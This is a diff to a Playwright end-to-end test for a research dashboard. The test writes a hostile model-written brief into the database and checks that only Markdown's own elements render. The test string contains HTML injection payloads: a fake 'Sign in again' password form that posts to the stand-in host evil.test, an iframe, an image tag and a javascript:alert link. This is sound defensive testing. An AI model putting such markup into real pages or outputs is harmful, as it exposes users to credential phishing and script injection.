@@ -8,6 +8,7 @@ import itertools
 import math
 import re
 
+import psycopg
 import pytest
 from playwright.sync_api import expect
 
@@ -28,7 +29,12 @@ def finished_job(dashboard):
     return email, job.json()
 
 
-def test_a_reopened_job_shows_its_question_events_and_result(page, finished_job, console):
+HOSTILE_BRIEF = ('Checkpoints resume runs.\n\n<img src="data:," alt="tracker"><form action="https://evil.test">'
+                 '<input name="password"><button>Sign in again</button></form><iframe src="about:blank"></iframe>'
+                 '<a href="javascript:alert(1)">click</a> and **bold** stays.')
+
+
+def test_a_reopened_job_shows_its_question_events_and_result(page, dashboard, finished_job, console):
     email, job = finished_job
     log_in(page, email)
     page.goto(f"/playground?job={job['id']}")
@@ -40,6 +46,18 @@ def test_a_reopened_job_shows_its_question_events_and_result(page, finished_job,
     expect(page.locator("article.brief")).to_contain_text("crash")
     expect(page.get_by_role("button", name="Cancel")).to_have_count(0)
     shot(page, "playground-reopened")
+    assert console.errors == []
+
+    # A model-written brief (sources can steer it) renders only Markdown's own elements.
+    with psycopg.connect(dashboard.database_url, autocommit=True) as conn:
+        conn.execute("UPDATE research_jobs SET result = jsonb_set(result, '{brief}', to_jsonb(%s::text)) "
+                     "WHERE id = %s", (HOSTILE_BRIEF, job["id"]))
+    page.reload()
+    brief = page.locator("article.brief")
+    expect(brief).to_contain_text("Checkpoints resume runs")
+    expect(brief.locator("strong")).to_have_text("bold")
+    for tag in ("img", "form", "input", "button", "iframe", "a[href^='javascript']"):
+        expect(brief.locator(tag)).to_have_count(0)
     assert console.errors == []
 
 
